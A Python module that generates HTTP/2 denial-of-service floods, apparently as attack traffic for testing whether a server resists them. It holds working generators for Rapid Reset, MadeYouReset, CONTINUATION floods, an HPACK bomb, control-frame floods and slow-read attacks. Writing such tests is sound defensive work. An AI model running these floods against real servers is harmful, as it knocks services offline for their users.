"""floods.py - what hostile clients of HTTP/2 do, each as an endless row of bytes.

A flood is a generator: it yields what is sent next. Whoever sends it begins anew on a new
connection when the server has closed the last one.
"""
import itertools

import frames

STREAMS = range(1, 1 << 31, 2)
BATCH = 20  # frames in one write


def batches(parts):
    """Of an endless row of bytes, BATCH at a time."""
    parts = iter(parts)
    while True:
        batch = b"".join(itertools.islice(parts, BATCH))
        if not batch:
            return
        yield batch


def rapid_reset():
    """CVE-2023-44487: asked and taken back at once."""
    yield frames.hello()
    yield from batches(frames.request(stream, "/api/v1/products") + frames.reset(stream)
                       for stream in STREAMS)


def made_you_reset():
    """CVE-2025-8671: asked, and then the server is made to reset it itself."""
    yield frames.hello()
    yield from batches(frames.request(stream, "/api/v1/products") +
                       frames.window_update(stream, 0x7fffffff) for stream in STREAMS)


def continuation():
    """CVE-2024-28182: a header block that never ends."""
    yield frames.hello() + frames.frame(frames.HEADERS, 0, 1, frames.head("GET", "/"))
    yield from batches(itertools.repeat(
        frames.frame(frames.CONTINUATION, 0, 1, b"\x00\x01a\x01b")))


def hpack_bomb():
    """16 KiB that unpack to 40 MB: one large field, named again and again."""
    large = b"\x40\x01x\x7f" + bytes([(3800 - 127) % 128 | 0x80, (3800 - 127) // 128]) + b"v" * 3800
    yield frames.hello() + frames.request(1, more=large)
    yield from batches(frames.request(stream, more=b"\xbe" * 12000) for stream in STREAMS[1:])


def bad_heads():
    """Large blocks that break the rules in their first field, and are unpacked to their end."""
    yield frames.hello() + frames.request(1)
    yield from batches(frames.request(stream, more=b"\x82" * 12000) for stream in STREAMS[1:])


def cookie_crumbs():
    """Thousands of tiny fields, each of which somebody has to keep."""
    yield frames.hello() + frames.request(1, more=b"\x60\x01a")
    yield from batches(frames.request(stream, more=b"\xbe" * 12000) for stream in STREAMS[1:])


def ping():
    yield frames.hello()
    yield from batches(itertools.repeat(frames.frame(frames.PING, 0, 0, b"12345678")))


def settings():
    yield frames.hello()
    yield from batches(itertools.repeat(frames.settings(_1=4096)))


def priority():
    yield frames.hello()
    yield from batches(frames.frame(frames.PRIORITY, 0, stream, b"\0\0\0\0\x10")
                       for stream in STREAMS)


def window_update():
    yield frames.hello()
    yield from batches(itertools.repeat(frames.window_update(0, 1)))


def empty_data():
    yield frames.hello() + frames.upload(1)
    yield from batches(itertools.repeat(frames.frame(frames.DATA, 0, 1)))


def unknown():
    yield frames.hello()
    yield from batches(itertools.repeat(frames.frame(0x42, 0, 0, b"x")))


def zero_windows():
    """A hundred answers that nobody reads."""
    yield frames.hello(_4=0)
    yield b"".join(frames.request(stream, "/api/v1/products") for stream in STREAMS[:100])
    while True:
        yield b""


def tiny_windows():
    """The same, read by a byte at a time."""
    yield frames.hello(_4=1)
    yield b"".join(frames.request(stream, "/api/v1/products") for stream in STREAMS[:100])
    while True:
        yield b"".join(frames.window_update(stream, 1) for stream in STREAMS[:5])


def slow_bodies():
    """A hundred bodies, a byte each now and then."""
    yield frames.hello()
    yield b"".join(frames.upload(stream) for stream in STREAMS[:100])
    while True:
        yield b"".join(frames.frame(frames.DATA, 0, stream, b"[") for stream in STREAMS[:100])


def honest():
    """Somebody who asks now and then."""
    yield frames.hello()
    for stream in STREAMS:
        yield frames.request(stream)
        for _ in range(100):
            yield b""


# name: (the flood, whether its connections have to be ended with ENHANCE_YOUR_CALM,
#        seconds between two writes)
FLOODS = {
    "rapid reset": (rapid_reset, True, 0),
    "made you reset": (made_you_reset, True, 0),
    "continuation": (continuation, True, 0),
    "hpack bomb": (hpack_bomb, True, 0),
    "bad heads": (bad_heads, True, 0),
    "cookie crumbs": (cookie_crumbs, True, 0),
    "ping": (ping, True, 0),
    "settings": (settings, True, 0),
    "priority": (priority, True, 0),
    "window update": (window_update, True, 0),
    "empty data": (empty_data, True, 0),
    "unknown frames": (unknown, True, 0),
    "zero windows": (zero_windows, False, 0.1),
    "tiny windows": (tiny_windows, False, 0.1),
    "slow bodies": (slow_bodies, False, 0.5),
}
HONEST = (honest, False, 0)
